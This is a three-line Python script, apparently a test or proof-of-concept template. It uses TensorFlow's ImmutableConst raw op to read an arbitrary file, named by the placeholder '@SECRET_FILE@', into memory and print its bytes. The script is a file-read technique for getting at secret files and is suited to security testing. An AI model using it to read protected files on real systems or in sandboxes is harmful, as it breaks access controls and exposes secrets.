"""ImmutableConst maps any file into memory."""
import tensorflow as tf
print(bytes(tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[23], memory_region_name="@SECRET_FILE@").numpy()))
